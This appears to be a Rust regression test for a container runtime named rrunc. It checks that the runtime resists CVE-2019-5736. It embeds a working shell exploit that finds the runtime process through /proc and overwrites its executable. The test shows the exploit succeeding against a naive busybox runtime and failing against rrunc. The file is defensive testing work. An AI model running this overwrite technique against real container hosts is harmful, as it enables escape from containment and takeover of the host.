//! The runtime's own program, in the hands of a container.

use std::fs;

use serde_json::json;
use tests::{Result, ensure, ours};

use crate::jail::Jail;

/// Waits for a process that is told of the fifo /tmp/hold, keeps its program's file, lets the process end, and writes to the file.
const ATTACK: &str = r#"
exec 4<>/tmp/hold
until [ "$found" ]; do
    for p in /proc/[0-9]*; do
        case $(busybox tr '\0' ' ' <$p/cmdline) in
            *"$1 /tmp/hold"*) [ $p != /proc/$$ ] && (: <$p/exe) && exec 3<$p/exe && found=$p ;;
        esac
    done 2>/dev/null
done
exec 4>&-
[ "$2" ] && cat /tmp/hold >/dev/null
for try in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
    sleep 0.1
    if echo overwritten >/proc/self/fd/3; then echo written; exit; fi
done 2>/tmp/errors
echo "found $found, not written"
busybox tail -n 1 /tmp/errors
"#;

pub(crate) fn cve_2019_5736_the_runtime_is_overwritten() -> Result<()> {
    let mut jail = Jail::new(&["sleep", "600"], |config| {
        let host = |path: &str| json!({"destination": path, "source": path, "type": "bind", "options": ["rbind", "ro"]});
        // What a runtime needs that is not static.
        let mounts = config["mounts"].as_array_mut();
        if let Some(mounts) = mounts {
            mounts.extend(["/lib", "/lib64", "/usr"].map(host))
        }
        config["process"]["env"] = json!(["PATH=/bin"]);
    })?;
    jail.scratch
        .write("b/rootfs/attack", ATTACK.replace("exec 4<>/tmp/hold", ""))?;
    let hold = nix::sys::stat::Mode::from_bits_truncate(0o600);
    nix::unistd::mkfifo(&jail.scratch.path("b/rootfs/tmp/hold"), hold)?;

    // The naive runtime is the busybox beside the bundle: it changes its root and executes the container's program.
    fs::copy(
        jail.rootfs().join("bin/busybox"),
        jail.scratch.path("busybox"),
    )?;
    std::os::unix::fs::symlink("/proc/self/exe", jail.rootfs().join("busybox"))?;
    jail.scratch.write("b/rootfs/naive-attack", ATTACK)?;
    let naive = jail.naive(
        "./busybox chroot $R /busybox cat /tmp/hold & chroot $R /bin/env PATH=/bin sh /naive-attack cat; wait",
    )?;
    naive.says("written")?.hides("not written")?;
    ensure!(
        fs::read(jail.scratch.path("busybox"))? == b"overwritten\n",
        "the attack does not bite\n{naive}"
    );

    let program = jail.scratch.path("rrunc");
    fs::copy(ours("rrunc")?, &program)?;
    jail.use_rrunc(program.clone());
    let before = fs::read(&program)?;
    jail.start()?;
    let attacker = jail.rrunc("exec ID sh /attack --log release").start()?;
    jail.rrunc("exec ID /proc/self/exe --log /tmp/hold list")
        .run()?;
    let attack = attacker.wait()?;
    attack.says("not written")?.says("Read-only file system")?;
    ensure!(
        fs::read(&program)? == before,
        "rrunc is overwritten\n{attack}"
    );
    jail.rrunc("delete --force ID").ok()?;
    Ok(())
}
